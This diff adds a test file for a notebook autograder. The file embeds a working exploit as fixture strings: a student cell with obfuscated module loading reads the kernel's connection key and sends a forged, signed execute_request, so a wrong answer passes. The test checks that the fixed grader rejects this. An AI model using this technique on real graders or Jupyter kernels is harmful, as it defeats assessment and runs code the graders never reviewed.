@@ -1,0 +1,88 @@
+// Under `nbgrader autograde` a cell may read its kernel's connection file (node's permission model
+// grants it to the kernel, which reads it at its start) and reach zeromq by computed names. A cell
+// that signed an `execute_request` of its own with that key and sent it to the kernel's shell socket
+// ran code the course's reading of cells never saw: here a `const Math` whose `abs` is 0, which the
+// mean test then read, so a `mean` returning 0 passed it; sent with the `msg_id` nbclient gives the
+// next request (jupyter_client's are `<session>_<pid>_<count>`, seen on IOPub), its outputs and `idle`
+// were even taken for the test's own. nbgrader gave the test its 3 points. The kernel now takes
+// requests from nbclient only (lib/kernel/kernel-sockets.cjs). Our grader gives the kernel no
+// connection file to read.
+import assert from "node:assert/strict";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { arithOf, perfectArith, studentFolder } from "./graded.mjs";
+
+// the answer cell: the key, zeromq, and the kernel's IOPub (the last request's header) and shell
+const SOCKETS = String.raw`function square(x: number): number {
+  return x * x;
+}
+const own: any = {};
+{
+  const P: any = process;
+  const k = (a: string, b: string) => a + b;
+  try {
+    const fs = P[k("getBuiltin", "Module")]("fs");
+    const hmac = P[k("getBuiltin", "Module")]("crypto");
+    const zmq = P[k("main", "Module")][k("requ", "ire")]("zeromq");
+    const conn = JSON.parse(fs.readFileSync(process.argv[process.argv.indexOf("--config-path") + 1], "utf8"));
+    const address = (port: number) => conn.transport + "://" + conn.ip + (conn.transport === "ipc" ? "-" : ":") + port;
+    const sign = (parts: string[]) => { const h = hmac.createHmac("sha256", conn.key); for (const p of parts) h.update(p); return h.digest("hex"); };
+    const sub = new zmq.Subscriber();
+    sub.connect(address(conn.iopub_port));
+    sub.subscribe();
+    const shell = new zmq.Dealer();
+    shell.connect(address(conn.shell_port));
+    (async () => {
+      for await (const raw of sub) {
+        const parts = raw.map((b: any) => b.toString());
+        const at = parts.indexOf("<IDS|MSG>");
+        const parent = JSON.parse(parts[at + 3]);
+        if (JSON.parse(parts[at + 2]).msg_type === "status" && parent.msg_type === "execute_request") own.last = parent;
+      }
+    })().catch(() => undefined);
+    own.send = async (code: string) => {
+      const cut = own.last.msg_id.lastIndexOf("_");
+      const header = { ...own.last, msg_id: own.last.msg_id.slice(0, cut + 1) + (Number(own.last.msg_id.slice(cut + 1)) + 1), date: new Date().toISOString() };
+      const parts = [header, {}, {}, { code, silent: false, store_history: false, user_expressions: {}, allow_stdin: false, stop_on_error: false }].map((part) => JSON.stringify(part));
+      await shell.send(["<IDS|MSG>", sign(parts), ...parts]);
+      return "SENT " + header.msg_id;
+    };
+    console.log("OWN SOCKETS open");
+  } catch (e) {
+    console.log("OWN SOCKETS refused: " + String(e).slice(0, 300));
+  }
+}`;
+
+// a cell of the student's right before the mean test: once IOPub has shown its own request, the
+// unread code goes with the msg_id of the next request, the test's
+const FORGED = 'console.log("FORGED OUTPUT");\nconst Math = { abs: (_: number) => 0 };';
+const SEND = `const unread = ${JSON.stringify(FORGED)};
+await new Promise((done) => setTimeout(done, 500));
+console.log(own.send && own.last ? await own.send(unread) : "NOT SENT");`;
+
+const outputsOf = (file, id) => JSON.parse(readFileSync(file, "utf8")).cells.find((cell) => cell.metadata?.nbgrader?.grade_id === id).outputs;
+
+export const cases = [
+  {
+    student: "own-kernel-messages",
+    title: "a request a cell signs and sends to its own kernel is not run: a wrong mean fails its test, under both graders",
+    build(classDir) {
+      const notebook = perfectArith();
+      const answer = (id) => notebook.cells.find((cell) => cell.metadata?.nbgrader?.grade_id === id);
+      answer("square").source = SOCKETS;
+      answer("mean").source = "function mean(values: number[]): number {\n  return 0;\n}";
+      const test = notebook.cells.findIndex((cell) => cell.metadata?.nbgrader?.grade_id === "mean-test");
+      notebook.cells.splice(test, 0, { cell_type: "code", execution_count: null, id: "send", metadata: {}, outputs: [], source: SEND });
+      writeFileSync(join(studentFolder(classDir, this.student), "arith.ipynb"), JSON.stringify(notebook));
+    },
+    check({ report, gradebook, courseDir }) {
+      const exercises = arithOf(report, this.student).exercises;
+      assert.deepEqual(exercises.map((exercise) => [exercise.id, exercise.points]), [["square-test", 2], ["why-square", null], ["mean-test", 0]]);
+      assert.equal(gradebook[this.student]["arith.ipynb:square-test"].auto, 2);
+      assert.equal(gradebook[this.student]["arith.ipynb:mean-test"].auto, 0, "nbgrader: the mean test read the unread cell's Math");
+      const outputs = outputsOf(join(courseDir, "autograded", this.student, "fixture", "arith.ipynb"), "mean-test");
+      assert.ok(outputs.some((output) => output.output_type === "error" && /should be 0\.4995, got 0/.test(output.evalue)), JSON.stringify(outputs));
+      assert.doesNotMatch(JSON.stringify(outputs), /FORGED OUTPUT/);
+    },
+  },
+];
